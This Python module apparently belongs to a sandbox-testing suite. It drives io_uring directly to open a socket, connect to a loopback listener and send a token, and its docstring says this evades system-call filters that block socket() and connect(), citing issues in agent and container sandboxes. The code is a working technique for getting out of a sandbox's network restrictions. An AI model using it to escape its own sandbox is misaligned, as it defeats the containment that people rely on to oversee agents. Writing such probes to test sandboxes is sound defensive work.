"""Connect to a TCP listener of the host's loopback through io_uring.

The kernel creates the socket, connects and sends by entries of a ring in shared memory, so that a
filter on system calls sees neither socket() nor connect(). A network namespace holds all the same.
Sources: openai/codex#10814, phylum-dev/birdcage#32, moby/moby#46762; io_uring(7), OP_SOCKET from Linux 5.19.
"""

import ctypes
import mmap
import os
import socket
import struct

import syscalls

OP_CONNECT, OP_SEND, OP_SOCKET = 16, 26, 45
GETEVENTS = 1
SQ_RING, CQ_RING, SQES = 0, 0x8000000, 0x10000000  # what to map, as an offset


def attempt(target):
    """A refused io_uring_setup(), or an entry that completes with an error, is the sandbox's answer."""
    if not target.platform.startswith("linux"):
        raise NotImplementedError("io_uring is Linux's")
    target.step("io_uring_setup")
    ring = Ring(4)
    target.step("OP_SOCKET")
    connection = ring.run(OP_SOCKET, socket.AF_INET, 0, 0, socket.SOCK_STREAM)
    place = struct.pack("=H", socket.AF_INET) + struct.pack("!H", target.port)
    place = ctypes.create_string_buffer(place + socket.inet_aton(target.address), 16)
    target.step("OP_CONNECT")
    ring.run(OP_CONNECT, connection, ctypes.addressof(place), 0, len(place))
    token = ctypes.create_string_buffer(target.token.encode())
    target.step("OP_SEND")
    ring.run(OP_SEND, connection, ctypes.addressof(token), len(target.token), 0)
    os.close(connection)


class Ring:
    """A submission and a completion ring, used for one entry at a time."""

    def __init__(self, entries):
        """Set up and map; struct io_uring_params is 40 bytes of facts, then the offsets of both rings."""
        params = ctypes.create_string_buffer(120)
        self.fd = syscalls.syscall("io_uring_setup", entries, params)
        size, completions = struct.unpack_from("=II", params)
        _, self.sq_tail, self.sq_mask, _, _, _, self.sq_array = struct.unpack_from("=7I", params, 40)
        self.cq_head, _, self.cq_mask, _, _, self.cqes = struct.unpack_from("=6I", params, 80)
        self.sq = mmap.mmap(self.fd, self.sq_array + 4 * size, offset=SQ_RING)
        self.cq = mmap.mmap(self.fd, self.cqes + 16 * completions, offset=CQ_RING)
        self.entries = mmap.mmap(self.fd, 64 * size, offset=SQES)

    def run(self, operation, fd, address, length, offset):
        """Submit one entry and wait for it; its result, or the OSError that it completed with."""
        tail = word(self.sq, self.sq_tail)
        index = tail & word(self.sq, self.sq_mask)
        entry = struct.pack("=BBHiQQII", operation, 0, 0, fd, offset, address, length, 0)
        self.entries[64 * index : 64 * index + 64] = entry.ljust(64, b"\0")
        struct.pack_into("=I", self.sq, self.sq_array + 4 * index, index)
        struct.pack_into("=I", self.sq, self.sq_tail, tail + 1)
        syscalls.syscall("io_uring_enter", self.fd, 1, 1, GETEVENTS, None, 0)
        head = word(self.cq, self.cq_head)
        at = self.cqes + 16 * (head & word(self.cq, self.cq_mask))
        (result,) = struct.unpack_from("=i", self.cq, at + 8)
        struct.pack_into("=I", self.cq, self.cq_head, head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result


def word(ring, offset):
    """Four bytes of shared memory as a number."""
    return struct.unpack_from("=I", ring, offset)[0]
